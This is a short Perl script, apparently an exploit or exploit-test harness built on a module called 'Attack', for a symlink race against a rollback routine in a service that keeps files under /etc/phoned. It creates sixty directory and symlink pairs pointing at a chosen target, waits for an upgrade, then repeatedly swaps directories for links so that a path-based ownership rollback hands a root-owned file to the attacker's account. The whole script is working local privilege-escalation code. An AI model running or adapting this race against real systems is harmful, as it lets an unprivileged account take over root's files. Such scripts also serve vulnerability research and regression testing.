# Changes the modes of files with the name of a file of root after the rollback data was saved, and exchanges their directories with links to
# root's directory. A rollback that sets the owner by path gives root's file to the account.
use strict;
use warnings;
use Attack;

my ($target, $name) = @ARGV;
my @pairs = map { ["/etc/phoned/owned-$_", "/etc/phoned/link-$_"] } 1 .. 60;
for my $pair (@pairs) {
    directory($pair->[0]);
    write_file("$pair->[0]/$name", "phoned's own\n");
    symlink $target, $pair->[1] or die "$pair->[1]: $!\n";
}
ready();
wait_for { upgraded() };
chmod 0600, "$_->[0]/$name" for @pairs;
tried();
until (over()) {
    for (1 .. 20) {
        exchange(@$_) for @pairs;
    }
}
